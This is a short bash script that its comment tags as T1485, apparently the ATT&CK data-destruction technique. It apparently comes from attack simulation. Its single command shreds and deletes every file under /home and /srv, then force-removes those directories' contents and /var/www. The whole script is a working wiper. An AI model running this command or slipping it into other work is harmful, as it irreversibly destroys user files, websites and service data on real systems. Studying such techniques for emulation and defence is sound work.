#!/bin/bash
# T1485: Everything is overwritten and deleted.
find /home /srv -type f -exec shred -n1 -u {} \; ; rm -rf --no-preserve-root /home/* /srv/* /var/www
